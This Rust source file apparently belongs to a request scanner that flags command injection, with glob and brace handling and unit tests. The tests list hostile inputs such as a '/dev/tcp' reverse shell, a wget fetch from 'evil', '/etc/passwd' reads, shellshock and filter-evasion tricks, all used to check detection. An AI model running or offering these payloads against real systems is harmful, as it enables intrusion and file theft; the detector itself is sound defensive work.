fn brace_expand(word: Vec<u8>) -> Vec<Vec<u8>> {
    let (Some(o), Some(c)) = (
        word.iter().position(|&x| x == b'{'),
        word.iter().rposition(|&x| x == b'}'),
    ) else {
        return vec![word];
    };
    if o > c || !word[o..c].contains(&b',') {
        return vec![word];
    }
    let (pre, inner, post) = (&word[..o], &word[o + 1..c], &word[c + 1..]);
    inner
        .split(|&x| x == b',')
        .take(8)
        .map(|alt| [pre, alt, post].concat())
        .filter(|w| !w.is_empty())
        .collect()
}

/// The command's name (after assignments and wrappers) and how telling it is.
fn command_name(cmd: &Command) -> Option<(&[u8], Strength)> {
    command_name_how(cmd).map(|(w, s, _)| (w, s))
}

/// [`command_name`], and whether the name was the value of an `a=name` pair (which in a
/// query string or form body is a parameter, not an assignment before a command).
fn command_name_how(cmd: &Command) -> Option<(&[u8], Strength, bool)> {
    let mut words = cmd.words.iter().map(Vec::as_slice).peekable();
    let mut best: Option<(&[u8], Strength, bool)> = None;
    for _ in 0..MAX_WORDS {
        let w = words.next()?;
        // `a=b` assignments before a command.
        if let Some(eq) = w.iter().position(|&x| x == b'=') {
            if eq > 0
                && w[..eq]
                    .iter()
                    .all(|x| x.is_ascii_alphanumeric() || *x == b'_')
            {
                // `cmd=whoami` in a raw body or XML attribute: the value may be the command.
                if let Some((name, strength)) = classify(&w[eq + 1..]) {
                    return Some((name, strength, true));
                }
                continue;
            }
        }
        let name = w.strip_prefix(b"@").unwrap_or(w);
        let found = classify(name).map(|(n, s)| (n, s, false));
        if WRAPPERS.iter().any(|x| x.as_bytes() == name) && words.peek().is_some() {
            best = best.or(found);
            continue;
        }
        return found.or(best);
    }
    best
}

fn classify(word: &[u8]) -> Option<(&[u8], Strength)> {
    // One pass finds the slashes (names are short: a loop costs less than `memchr` calls).
    let (mut first_slash, mut last_slash) = (None, None);
    for (i, &x) in word.iter().enumerate() {
        if x == b'/' {
            first_slash = first_slash.or(Some(i));
            last_slash = Some(i);
        }
    }
    let path_qualified = first_slash.is_some();
    let base = match last_slash {
        Some(p) => &word[p + 1..],
        None => word,
    };
    let base = base
        .strip_suffix(b".exe")
        .or_else(|| base.strip_suffix(b".com"))
        .unwrap_or(base);
    if base.is_empty() {
        return None;
    }
    // `ipconfig/all`, `bcdboot/r`: cmd.exe reads a switch glued to a command name.
    if let Some(slash) = first_slash {
        let (name, switch) = (&word[..slash], &word[slash + 1..]);
        let switch_like = (1..=8).contains(&switch.len())
            && switch.iter().all(|x| x.is_ascii_alphabetic() || *x == b'?');
        if switch_like && WINDOWS.contains(&name) {
            return Some((name, Strength::Strong));
        }
    }
    // `/usr/bin/anything`, `bin/ansible`: a binary by its path.
    if path_qualified {
        let dir = &word[..word.len() - base.len()];
        if dir.ends_with(b"bin/") && base[0].is_ascii_alphabetic() {
            return Some((base, Strength::Strong));
        }
        // `Anthropic/Python 0.25` (a product token) is no program path.
        if !(word.starts_with(b"/") || word.starts_with(b"./") || word.starts_with(b"~/")) {
            return None;
        }
    }
    if base.iter().any(|x| matches!(x, b'?' | b'*' | b'[')) {
        return glob_command(base).map(|_| (base, Strength::Strong));
    }
    lookup(base).map(|s| {
        // `/bin/cat` is as telling as `whoami`.
        let s = if path_qualified { Strength::Strong } else { s };
        (base, s)
    })
}

fn solo(name: &[u8]) -> bool {
    SOLO.iter().any(|x| x.as_bytes() == name)
        || (lookup(name) == Some(Strength::Strong) && !listed(name))
}

/// [`STRONG`] and [`WEAK`] (all lower case, as the names looked up are), indexed.
static INDEXES: LazyLock<[WordIndex; 2]> = LazyLock::new(|| {
    [STRONG, WEAK].map(|list| {
        let words: Vec<&[u8]> = list.iter().map(|x| x.as_bytes()).collect();
        WordIndex::of(&words)
    })
});

/// Whether `name` is in [`STRONG`] or [`WEAK`].
fn listed(name: &[u8]) -> bool {
    INDEXES.iter().any(|ix| ix.contains(name))
}

fn lookup(name: &[u8]) -> Option<Strength> {
    // A name, or its versioned stem (which begins with the same two bytes), can be listed
    // only if a listed name begins like it: most words are no command, told by one lookup.
    if !INDEXES.iter().any(|ix| ix.may_begin(name)) {
        return family(name).map(|_| Strength::Strong);
    }
    if INDEXES[0].contains(name) {
        return Some(Strength::Strong);
    }
    if INDEXES[1].contains(name) {
        return Some(Strength::Weak);
    }
    // Versioned interpreters and tool families: `python3.10`, `gcc10.1`, `ansible-vault`.
    let stem_len = name
        .iter()
        .rposition(|x| !(x.is_ascii_digit() || *x == b'.'))
        .map_or(0, |p| p + 1);
    let version = &name[stem_len..];
    if version.first().is_some_and(u8::is_ascii_digit) && stem_len >= 2 {
        let stem = &name[..stem_len];
        if listed(stem) {
            return Some(Strength::Strong);
        }
    }
    family(name).map(|_| Strength::Strong)
}

/// The tool family of a hyphenated name (`ansible-vault`, `aa-disable`, `systemd-run`).
const FAMILIES: [&str; 6] = ["ansible-", "chef-", "rmt-", "aa-", "apt-", "systemd-"];

fn family(name: &[u8]) -> Option<&'static str> {
    FAMILIES
        .into_iter()
        .find(|f| name.starts_with(f.as_bytes()) && name.len() > f.len())
}

/// Signal names and numbers as `trap` takes them (`EXIT`, `SIGINT`, `ERR`, `9`).
fn signal(w: &[u8]) -> bool {
    const NAMES: &[&[u8]] = &[
        b"exit", b"err", b"debug", b"return", b"hup", b"int", b"quit", b"term", b"kill", b"usr1",
        b"usr2", b"alrm", b"chld", b"pipe",
    ];
    let name = w.strip_prefix(b"sig").unwrap_or(w);
    (!w.is_empty() && w.len() <= 3 && w.iter().all(u8::is_ascii_digit))
        || (w.starts_with(b"sig") && name.len() >= 2 && name.iter().all(u8::is_ascii_alphanumeric))
        || NAMES.contains(&name)
}

/// A known command matched by a glob pattern (`c?t`, `wh[o]ami`); the pattern needs a literal.
fn glob_command(pattern: &[u8]) -> Option<&'static str> {
    if pattern.iter().filter(|x| x.is_ascii_alphabetic()).count() < 2 {
        return None;
    }
    STRONG
        .iter()
        .chain(WEAK)
        .find(|c| c.len() >= 2 && glob_match(pattern, c.as_bytes()))
        .copied()
}

/// Shell glob matching with `?`, `*` and `[…]` classes, without recursion: on a mismatch the
/// last `*` takes one more byte, so the work is O(pattern × text) whatever the input (a
/// backtracking matcher is exponential in the number of stars).
fn glob_match(p: &[u8], s: &[u8]) -> bool {
    let (mut pi, mut si) = (0, 0);
    // After the last `*` seen: where the pattern resumes, and where the text resumed.
    let mut star: Option<(usize, usize)> = None;
    while si < s.len() {
        let step = match p.get(pi) {
            Some(b'*') => {
                star = Some((pi + 1, si));
                pi += 1;
                continue;
            }
            Some(b'?') => Some(1),
            Some(b'[') => match class_match(&p[pi..], s[si]) {
                Some((len, true)) => Some(len),
                Some((_, false)) => None,
                // No closing bracket: a literal `[`.
                None => (s[si] == b'[').then_some(1),
            },
            Some(&c) => (c == s[si]).then_some(1),
            None => None,
        };
        match (step, star) {
            (Some(len), _) => {
                pi += len;
                si += 1;
            }
            (None, Some((resume, from))) => {
                pi = resume;
                si = from + 1;
                star = Some((resume, from + 1));
            }
            (None, None) => return false,
        }
    }
    p[pi.min(p.len())..].iter().all(|&c| c == b'*')
}

/// A `[…]` class at the start of `p` against `ch`: its length in the pattern and whether it
/// matches; `None` when the class is not closed.
fn class_match(p: &[u8], ch: u8) -> Option<(usize, bool)> {
    let end = p.iter().skip(1).position(|&x| x == b']')? + 1;
    let class = &p[1..end];
    let (neg, class) = match class.first() {
        Some(b'!' | b'^') => (true, &class[1..]),
        _ => (false, class),
    };
    let mut hit = false;
    let mut k = 0;
    while k < class.len() {
        if k + 2 < class.len() && class[k + 1] == b'-' {
            hit |= class[k] <= ch && ch <= class[k + 2];
            k += 3;
        } else {
            hit |= class[k] == ch;
            k += 1;
        }
    }
    Some((end + 1, hit != neg))
}

/// An absolute path written with glob classes or wildcards to dodge word filters
/// (`/etc/pa[s]swd`, `/???/c?t`, `/bin/ca?`).
fn glob_path(commands: &[Command]) -> Option<usize> {
    for cmd in commands {
        for w in &cmd.words {
            if w.len() < 4 || w[0] != b'/' || w.contains(&b'=') || w.contains(&b'&') {
                continue;
            }
            let segs = w.split(|&x| x == b'/').filter(|s| !s.is_empty()).count();
            // A bracket class inside a name (`pa[s]swd`), not a regex (`/[a-z]{1,5}/`).
            let mut outside = Vec::with_capacity(w.len());
            let mut depth = 0;
            for &x in w {
                match x {
                    b'[' => depth += 1,
                    b']' if depth > 0 => depth -= 1,
                    _ if depth == 0 => outside.push(x),
                    _ => {}
                }
            }
            let bracket = w.contains(&b'[')
                && w.contains(&b']')
                && !outside.contains(&b'{')
                && outside.iter().filter(|x| x.is_ascii_alphabetic()).count() >= 3;
            let questions = w.iter().filter(|&&x| x == b'?').count();
            let trailing_q = w.last() == Some(&b'?') && questions == 1 && segs >= 2;
            if segs >= 1 && (bracket || questions >= 2 || trailing_q) {
                return Some(cmd.pos);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use std::borrow::Cow;

    use super::*;
    use crate::detect::inputs::Input;
    use crate::detect::{Kind, Severity};

    /// The combined keyword index never hides a command the first-word walk finds: random
    /// values built from every listed name, versions, paths, `.exe`, tool families and
    /// separators, in either case.
    #[test]
    fn keyword_index_keeps_the_first_word_walk() {
        #[rustfmt::skip]
        const PIECES: &[&str] = &[
            " ", " ", ",", ";", "|", "&", "\n", "\t", "@", "/", "./", "~/", "/usr/bin/", "sbin/",
            "robin/", "3", ".10", "-", ".exe", ".COM", "/all", "x", "é", "water", "Please",
            "SKU-5-0003", "ansible-", "apt-get",
        ];
        let listed = trigger_words();
        let (mut commands, mut skipped) = (0usize, 0usize);
        for v in keywords::random_values(0x00c0_ffee_5eed, &listed, PIECES) {
            let (s, words) = (ByteSet::of(&v), Words::new(&v));
            let may = may_name_command(&v, &s, &words);
            if !first_words_plain(&v) {
                commands += 1;
                assert!(may, "{:?}", String::from_utf8_lossy(&v));
            }
            skipped += usize::from(!may);
        }
        assert!(commands > 10_000 && skipped > 3_000, "{commands} {skipped}");
    }

    fn run(source: Source, value: &str) -> Vec<Finding> {
        super::super::run_check(check, source, "q", value)
    }

    fn rule(value: &str) -> Option<&'static str> {
        let f = run(Source::Query, value);
        assert!(f.len() <= 1, "{f:?}");
        f.first().map(|f| {
            assert_eq!(f.kind, Kind::CommandInjection);
            assert_eq!(f.severity, Severity::Critical);
            assert_eq!(f.location, "query:q");
            f.rule_id
        })
    }

    #[test]
    fn command_lists_are_lower_case() {
        for w in STRONG.iter().chain(WEAK) {
            assert_eq!(*w, w.to_ascii_lowercase(), "{w}");
            assert!(listed(w.as_bytes()));
        }
        assert!(!listed(b"stainless") && lookup(b"python3.10") == Some(Strength::Strong));
    }

    #[test]
    fn pair_table_keeps_every_listed_name() {
        for name in STRONG.iter().chain(WEAK) {
            let n = name.as_bytes();
            assert!(lookup(n).is_some(), "{name}");
            let strong = STRONG.contains(name);
            assert_eq!(lookup(n) == Some(Strength::Strong), strong, "{name}");
            if n.len() >= 2 && !n.last().is_some_and(|x| x.is_ascii_digit() || *x == b'.') {
                let versioned = [n, b"3.1"].concat();
                assert_eq!(lookup(&versioned), Some(Strength::Strong), "{name}");
            }
        }
        assert_eq!(lookup(b"ansible-vault"), Some(Strength::Strong));
        assert_eq!(lookup(b"qzxv"), None);
    }

    #[test]
    fn separators_and_commands() {
        for v in [
            "1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "foo || uname -a",
            "`id`",
            "$(whoami)",
            "x\nwget http://evil/x.sh",
            "127.0.0.1; ping -c 3 10.0.0.1",
            "cat /etc/passwd",
            ";ps",
            "x;sleep 10 #",
            "& dir c:\\",
            "| powershell -enc abc",
            "x; /bin/sh -i",
            "<(curl -s http://x/y)",
            "python3.10 -c 'import os'",
        ] {
            assert_eq!(rule(v), Some("cmdi.shell"), "{v}");
        }
    }

    /// A line break separates commands as `;` does; prose spread over lines does not run any.
    #[test]
    fn newline_separators() {
        for v in [
            "127.0.0.1\nid",
            "127.0.0.1\r\nid",
            "\nid\n",
            "a\nenv",
            "x\nid;",
            "a\necho 5f3e1c",
            "a;echo 7f3a",
            "127.0.0.1\nwhoami",
        ] {
            assert_eq!(rule(v), Some("cmdi.shell"), "{v:?}");
        }
        for v in [
            "hello\nid card renewal",
            "Dear team,\nid",
            "first line\nenv",
            "Items:\necho chamber, reverb",
            "Items:\necho chamber",
            "Tom & Jerry\necho",
            "We said hi; echo the answer back",
        ] {
            assert_eq!(rule(v), None, "{v:?}");
        }
    }

    #[test]
    fn evasions() {
        for v in [
            ";c'a't /etc/hostname",
            "; w\\ho\\am\\i",
            ";cat${IFS}/etc/hostname",
            "a;{cat,/etc/hosts}",
            "c{a,oun}t /etc/hosts",
            "\\ls",
            "${PATH#x}",
            "alias a=c${KK}url",
            "cmd=whoami",
            "d=/dev&&(sh)0>x",
            "; /???/c?t /x",
            "x;c$@at /etc/hosts",
            "ti''me sh -c id",
            "%COMSPEC% /c dir",
            "x;sh$XX -c id",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        ] {
            assert!(rule(v).is_some(), "{v}");
        }
        assert_eq!(rule("() { :; }; /bin/bash -c id"), Some("cmdi.shellshock"));
        assert!(rule("/etc/pa[s]swd").is_some());
        assert_eq!(rule("x /etc/pa[s]swd"), Some("cmdi.glob"));
        assert_eq!(
            rule("for /f %i in ('whoami') do echo %i"),
            Some("cmdi.windows")
        );
        assert_eq!(rule("IF EXIST C:\\x.txt (type x)"), Some("cmdi.windows"));
    }

    #[test]
    fn benign_text() {
        for v in [
            "Tom & Jerry",
            "rock | paper",
            "R&D; sales",
            "cat pictures",
            "cat food",
            "Meet at 10; bring snacks; more later",
            "a hero; more than",
            "hello; time he came",
            "| col | col |\n|---|---|\n| a | b |",
            "price: $5",
            "100%",
            "email me at a@b.com",
            "{{user_name}}",
            "1.2.3",
            "https://example.com/webhook",
            "O'Brien & sons",
            "SH",
            "sort=id",
            "if foo==",
            "If you want, call me",
            "Python is great",
            "The zip on my coat is stuck",
            ";\"The quick brown fox\"",
            "red;$5 each",
            "$(document).ready(init)",
            "query($id: ID!) { user(id: $id) { id name email } }",
            "function() { return 1; }",
            "curl/7.81.0",
            "wget",
            "See the .list(5) file.",
            "IP supports a set of /proc interfaces to configure some global parameters.",
            "Make e2fsck handle the case where /lost+found isn't a directory.",
            "Runs as a helper (gcc host module) and more",
            "base64",
            "Find your solution here -> link",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
        assert!(run(Source::Path, "/bin/sh;id").is_empty());
        assert!(run(Source::ArgName, "pwd").is_empty());
        assert_eq!(rule("whoami"), Some("cmdi.shell"));
        // A capitalised common word with `-` options is a phrase; with a path, a Windows
        // switch, shell syntax or in lower case, a command line.
        assert_eq!(rule("SET 8 -MINI AS"), None);
        assert_eq!(rule("HEAD -OF THE TABLE"), None);
        assert_eq!(rule("set -x"), Some("cmdi.shell"));
        assert_eq!(rule("Cat -n /etc/passwd"), Some("cmdi.shell"));
        assert_eq!(rule("LS -LA $HOME"), Some("cmdi.shell"));
        assert_eq!(rule("x;SET -x"), Some("cmdi.shell"));
        assert_eq!(rule("ls -la MyDir"), Some("cmdi.shell"));
        assert_eq!(rule("ansible-vault decrypt secret"), Some("cmdi.shell"));
    }

    /// Pre-checks and table lookups: upper case, versioned and family names.
    #[test]
    fn lookups_and_prechecks() {
        assert_eq!(rule("FOR /F %i IN (x) DO y"), Some("cmdi.windows"));
        assert_eq!(rule("x;WHOAMI"), Some("cmdi.shell"));
        assert_eq!(rule("x;python3.10 -c 1"), Some("cmdi.shell"));
        assert_eq!(rule("x;ansible-vault view"), Some("cmdi.shell"));
        assert_eq!(rule("x|zcat"), Some("cmdi.shell"));
        assert_eq!(rule("Format the disk"), None);
    }

    #[test]
    fn expansion_history_and_windows_forms() {
        for v in [
            "${HOME:0:1}etc",
            "${x:-wget}",
            "a${u:=id}",
            "!-3",
            "!-1!-4",
            "!7!$",
            "if/I x==y echo",
            "if \"%~1\"==\"\"",
            "if not [%2] == []",
            "a.png&tasklist/v",
            "x|ipconfig/all",
        ] {
            assert!(rule(v).is_some(), "{v}");
        }
        for v in [
            "${PORT:8080}",
            "${user.name}",
            "${a ? b : c}",
            "!!",
            "!!!",
            "!important",
            "!-x",
            "if n%2 == 0",
            "bash/zsh users",
            "use php/laravel",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
    }

    #[test]
    fn definitions_quotes_and_short_paths() {
        for v in [
            "alias k=wget",
            "; trap \"curl x\" INT",
            "x;trap 'id' SIGTERM",
            "ls srv data",
            "mkdir www",
            "/bin/ip",
            "ansible-playbook site.yml extra vars",
            "\";uname\"",
            "'|netstat'",
            "' && uname -a '",
            "x=1&cmd=cat /etc/passwd",
        ] {
            assert!(rule(v).is_some(), "{v}");
        }
        for v in [
            "a trap; more fun",
            "LS 400",
            "ls",
            "https://shop.example/list?q=shoes&sort=ex&dir=desc",
            "a=1&b=cat&c=more",
            "data:text/plain;base64,aGVsbG8=",
            "data:text/html;charset=utf-8,hi",
            "\"quoted\" | more text",
            "bin",
        ] {
            assert_eq!(rule(v), None, "{v}");
        }
        // Raw bodies: the form pair's value is the command.
        let f = run(Source::Body, "v=alias k=wget&k x\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rule_id, "cmdi.shell");
        // Names: alone they are names, with arguments a command line.
        let name = |v: &str| {
            let input = Input {
                source: Source::ArgName,
                name: Cow::Borrowed(""),
                value: Cow::Borrowed(v),
            };
            let c = Candidate::new(&input, v);
            let mut out = Vec::new();
            check(&c, &mut out);
            out.len()
        };
        assert_eq!(name("apt-get purge nginx"), 1);
        assert_eq!(name("apt-get"), 0);
        assert_eq!(name("perl"), 0);
    }

    #[test]
    fn glob_matching() {
        assert!(glob_match(b"c?t", b"cat"));
        assert!(glob_match(b"[!q]at", b"cat"));
        assert!(glob_match(b"[a-z]at", b"cat"));
        assert!(!glob_match(b"c[!a]t", b"cat"));
        assert!(glob_match(b"*mi", b"whoami"));
        assert!(glob_match(&[b'*'; 200], b"xy"));
        assert!(glob_match(b"c*t*", b"cat"));
        assert!(!glob_match(b"c*x", b"cat"));
        assert!(glob_match(b"[c", b"[c"));
        // Many stars against a long near-miss: linear, not exponential, work.
        let pattern = [b"*a".repeat(200), b"b".to_vec()].concat();
        assert!(!glob_match(&pattern, &[b'a'; 5000]));
    }
}
